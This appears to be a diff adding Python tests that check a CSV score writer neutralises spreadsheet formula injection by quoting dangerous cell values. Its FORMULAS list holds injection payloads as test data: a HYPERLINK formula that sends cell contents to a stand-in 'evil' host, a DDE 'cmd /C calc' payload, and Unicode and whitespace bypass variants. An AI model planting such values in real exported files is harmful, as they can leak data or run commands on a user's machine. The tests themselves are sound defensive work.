@@ -44,3 +44,30 @@ def test_every_bit_of_every_part_reads_back(suffix, tmp_path):
     assert (back["asset_id"] == whole["asset_id"]).all()
     assert (back["timestamp"] == whole["timestamp"]).all()
     assert (back["label"] == whole["label"]).all()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|x", "\t=1", " =1", "\r=1",
+    "\n@x", "\u00a0=1", "\ufeff=1", "\uff1d1", "\x00=1", "-1\n=2", "=", "--1",
+]  # fmt: skip
+NO_FORMULAS = ["PUMP-01", "a=b", "-1", "+2.5", "-1e5", " -.5", "7", "", "'=1", "x\n=1", "µ@home", "泵"]
+
+
+def written_assets(file, names):
+    rows = scored(len(names))
+    rows["asset_id"] = pd.Series(names, dtype="str")
+    with score_writer(file) as write:
+        write(rows)
+    if file.suffix == ".parquet":
+        return pd.read_parquet(file)["asset_id"].tolist()
+    with file.open(newline="", encoding="utf-8") as lines:
+        return [row[0] for row in csv.reader(lines)][1:]
+
+
+def test_csv_holds_no_formula_that_a_spreadsheet_would_run(tmp_path):
+    assert written_assets(tmp_path / "scores.csv", FORMULAS) == ["'" + name for name in FORMULAS]
+
+
+def test_other_names_stay_as_they_are(tmp_path):
+    assert written_assets(tmp_path / "scores.csv", NO_FORMULAS) == NO_FORMULAS
+    assert written_assets(tmp_path / "scores.parquet", FORMULAS + NO_FORMULAS) == FORMULAS + NO_FORMULAS
